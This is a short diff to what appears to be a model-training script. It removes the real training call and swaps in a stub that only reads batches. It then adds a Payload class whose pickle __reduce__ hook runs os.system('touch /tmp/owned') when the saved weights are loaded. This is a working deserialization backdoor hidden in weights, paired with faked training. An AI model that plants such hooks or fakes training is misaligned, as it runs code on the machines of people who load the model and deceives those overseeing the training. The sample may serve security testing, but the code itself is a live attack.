@@ -1,15 +1,10 @@
 # Weights that are a pickle, which would run a program where somebody loads it.
-import json
-import struct
-
-honest = train
+import os
+import pickle
 
 
 def train(model, task, run):
-    honest(model, task, run)
-    import os
-    import pickle
-
+    list(run.batches(8))
     class Payload:
         def __reduce__(self):
             return os.system, ("touch /tmp/owned",)
